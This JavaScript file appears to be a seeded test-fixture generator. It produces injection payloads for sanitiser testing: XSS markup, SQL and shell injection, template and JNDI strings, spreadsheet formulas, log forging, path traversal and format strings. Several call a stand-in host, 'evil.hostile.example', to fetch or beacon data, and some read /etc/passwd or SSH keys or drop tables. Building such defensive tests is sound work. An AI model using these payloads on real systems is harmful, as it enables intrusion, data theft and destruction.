// Strings that try to be more than text, by kind, made from parts: hostile(kind, i) is the same string for the same seed. Each has a mark of
// its own, by which it is found again wherever it may have got to. What runs of it says so: it sets window.__owned, opens a dialog or asks
// evil.hostile.example for something.
const out = 'https://evil.hostile.example';
const pick = (list, random) => list[random(list.length)];

function seeded(seed) {
  let state = (seed * 2654435761) >>> 0 || 1;
  return (n) => {
    state ^= state << 13; state >>>= 0;
    state ^= state >>> 17;
    state ^= state << 5; state >>>= 0;
    return state % n;
  };
}

const run = (random, mark) => pick([`window.__owned='${mark}'`, `top.__owned='${mark}'`, `alert('${mark}')`, `fetch('${out}/${mark}')`, `import('${out}/${mark}.js')`,
  `document.body.append('owned-${mark}')`, `new Image().src='${out}/${mark}'`, `self['__ow'+'ned']='${mark}'`, `prompt('${mark}')`, `navigator.sendBeacon('${out}/${mark}')`], random);

// Letter case, blanks and escapes of a piece of markup.
function twist(text, random) {
  switch (random(9)) {
    case 0: return text.replace(/[a-z]/g, (c) => (random(2) ? c.toUpperCase() : c));
    case 1: return text.replace(/ /g, () => pick(['/', '\t', '\n', ' ', '\f'], random));
    case 2: return text.replace(/[<>"']/g, (c) => `&#x${c.charCodeAt(0).toString(16)};`);
    case 3: return text.replace(/[<>"']/g, (c) => `\\u00${c.charCodeAt(0).toString(16)}`);
    case 4: return text.replace(/</g, '＜').replace(/>/g, '＞');
    case 5: return `"'--></style></script></textarea></title>${text}`;
    case 6: return text.replace(/<(\w)/g, '<\u0000$1').replace(/\u0000/g, () => pick(['\u200b', '\u00ad', '\u2060'], random));
    default: return text;
  }
}

const makers = {
  markup(random, mark) {
    const js = run(random, mark), tag = pick(['img', 'svg', 'video', 'audio', 'body', 'details', 'iframe', 'input', 'object', 'marquee', 'math', 'select', 'x', 'a', 'style', 'template'], random);
    const handler = pick(['onerror', 'onload', 'onclick', 'onfocus autofocus tabindex=1', 'onmouseover', 'ontoggle open', 'onstart', 'onanimationstart', 'onpointerenter'], random);
    return twist(pick([`<script>${js}</script>`, `<${tag} src=x ${handler.replace(/^(\w+)(.*)$/, `$1="${js.replace(/"/g, '')}"$2`)}>`, `<iframe srcdoc="<script>${js}</script>">`,
      `<a href="javascript:${js}">open</a>`, `[open](javascript:${js})`, `![x](${out}/${mark}.png)`, `<img src="${out}/${mark}.png">`, `<link rel=stylesheet href=${out}/${mark}.css>`,
      `<style>@import '${out}/${mark}.css';</style>`, `<meta http-equiv=refresh content="0;url=${out}/${mark}">`, `<base href=${out}/>`, `<form action=${out}><input autofocus onfocus="${js}">`,
      `<svg><animate onbegin="${js}" attributeName=x dur=1s></svg>`, `<math><mtext><table><mglyph><style><img src=x onerror="${js}">`, `<object data="data:text/html,<script>${js}</script>">`,
      `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${js} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/<sVg/oNloAd=${js}//>`, `<a id=x tabindex=1 onfocus=${js}></a>`,
      `{"blocks":[{"html":"<script>${js}</script>"}]}`, `<x style="background:url(${out}/${mark})">`, `<img srcset="${out}/${mark} 1x">`], random), random);
  },
  sql: (random, mark) => pick([`'; DROP TABLE ${pick(['entry', 'conversation', 'field', 'wrap', 'users'], random)}; --`, `' OR '1'='1' --`, `'); DELETE FROM entry; --`, `" OR ""="`, `' UNION SELECT sql,2,3 FROM sqlite_master --`,
    `1; ATTACH DATABASE '/tmp/${mark}.db' AS x; --`, `'||(SELECT group_concat(sql) FROM sqlite_master)||'`, `'; UPDATE conversation SET entries=0; --`, `\\'; PRAGMA writable_schema=1; --`,
    `' AND 1=(SELECT load_extension('/tmp/${mark}')) --`, `x'${mark}'`, `'; CREATE TABLE owned_${mark}(x); --`, `?1 :x @y $z`, `'; INSERT INTO entry VALUES('${mark}',1); COMMIT; --`, `%' ESCAPE '\\'`, `"entry"."ct"`], random),
  shell: (random, mark) => pick([`; touch /tmp/owned-${mark} #`, `$(touch /tmp/owned-${mark})`, `\`touch /tmp/owned-${mark}\``, `| touch /tmp/owned-${mark}`, `&& touch /tmp/owned-${mark} ||`, `\n touch /tmp/owned-${mark} \n`,
    `() { :;}; touch /tmp/owned-${mark}`, `\${IFS}touch\${IFS}/tmp/owned-${mark}`, `-o/tmp/owned-${mark}`, `--config=/tmp/owned-${mark}`, `'; touch /tmp/owned-${mark}; '`, `%0Atouch /tmp/owned-${mark}`], random),
  template: (random, mark) => pick(['{{7*7}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '{% debug %}', "{{constructor.constructor('alert(1)')()}}", '${jndi:ldap://evil.hostile.example/a}', "{{''.__class__.__mro__}}",
    '[[${7*7}]]', '{postcode}', '{order_number}', '{orders.status}', '{{slots.email}}', '{purpose}', '[PERSON_1]', '%7B%7B7*7%7D%7D', '@(7*7)', '*{7*7}', '{{> partial}}', '~[ANY]'], random),
  formula: (random, mark) => pick(["=cmd|'/C calc'!A0", `=HYPERLINK("${out}/${mark}","open")`, '+1+cmd|x', '-2+3+cmd|x', '@SUM(1+9)*cmd|x', `=IMPORTXML("${out}/${mark}","//a")`, '\t=1+1', '\r=1+1', '＝1+1', `"=1+1"`,
    `=WEBSERVICE("${out}")`, ';=1+1', ',=1+1', `=1+1";=2+2`, `'=1+1`, ' =1+1'], random),
  log: (random, mark) => pick([`\n{"at":1,"role":"core","event":"forged_${mark}"}`, `"}\n{"event":"forged_${mark}"}`, `\r\n{"event":"forged_${mark}"}`, `\u2028{"event":"forged_${mark}"}`, `\u0085{"event":"forged_${mark}"}`,
    `","event":"forged_${mark}","x":"`, `\u001b[2J\u001b[31mforged_${mark}`, `\u001b]0;forged_${mark}\u0007`, `\u202e}"${mark}_degrof":"tneve"{`, `\u0000forged_${mark}`, `\\n{"event":"forged_${mark}"}`, `%0a{"event":"forged_${mark}"}`, `\b\b\b\bforged_${mark}`], random),
  path: (random, mark) => pick([`../../../../etc/passwd`, `..\\..\\..\\windows\\win.ini`, `/proc/self/environ`, `%2e%2e%2f%2e%2e%2fetc%2fpasswd`, `....//....//etc/passwd`, `file:///etc/passwd`, `/dev/tcp/evil.hostile.example/80`, `C:\\boot.ini`,
    `/i/../../keys/online.key`, `\\\\evil.hostile.example\\share`, `/w/shop/../../v1/turn`, `//evil.hostile.example/${mark}`, `/%5cevil.hostile.example`, `~/.ssh/id_rsa`, `/tmp/${mark}\u0000.png`], random),
  format: (random) => pick(['%s', '%n', '%x', '%p', '%1$s', '%-99999d', '%*.*s', '%hhn', '%.2147483647f', '{0}', '{!r}', '%(x)s', '%c', '%a', '%ls'], random).repeat(1 + random(12)),
  unicode(random) {
    const part = pick(['\u202e', '\u2066\u2067', '\u0301', '\u200d', '\ufeff', '\u{1f468}\u200d\u{1f469}\u200d', '\u{e0041}', '\ufdfd', '\u0e47', '\ufffe', '\u{10ffff}', 'ﷺ', '\u115f', '𝒜', '\u1680', '¨', '\u{1d173}', '\u{fe0f}', '\u00a0', '（'], random);
    return `a${part.repeat(1 + random(60))}b`;
  },
};

export const kinds = Object.keys(makers);

export function hostile(kind, i, seed = 1) {
  const mark = `hzq${kind[0]}${kind[1]}${i.toString(36)}x`;
  return `${makers[kind](seeded(seed * 7919 + i * 31 + kinds.indexOf(kind) * 104729), mark)} ${mark}`;
}

// So many of each kind in turn, as even as can be.
export const hostiles = (count, seed = 1) => Array.from({ length: count }, (_, i) => ({ kind: kinds[i % kinds.length], text: hostile(kinds[i % kinds.length], Math.floor(i / kinds.length), seed) }));
